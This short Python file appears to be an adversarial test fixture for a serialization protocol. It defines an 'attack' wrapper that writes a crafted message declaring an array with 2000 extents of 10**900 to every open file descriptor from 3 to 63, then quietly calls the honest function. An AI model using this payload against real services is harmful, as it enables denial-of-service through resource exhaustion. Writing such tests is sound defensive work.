"""Sends an array of thousands of extents, whose product has two million digits."""

import contextlib
import os
import struct


def attack(honest, *args, **kwargs):
    heads = [f'{{"array": "<f4", "shape": {[10**900] * 2000}}}']
    for head in heads:
        head = b'{"dict": [[{"plain": "result"}, ' + head.encode() + b"]]}"
        for descriptor in range(3, 64):
            with contextlib.suppress(OSError):
                os.write(descriptor, struct.pack("<QI", len(head) + 4, len(head)) + head)
    return honest(*args, **kwargs)
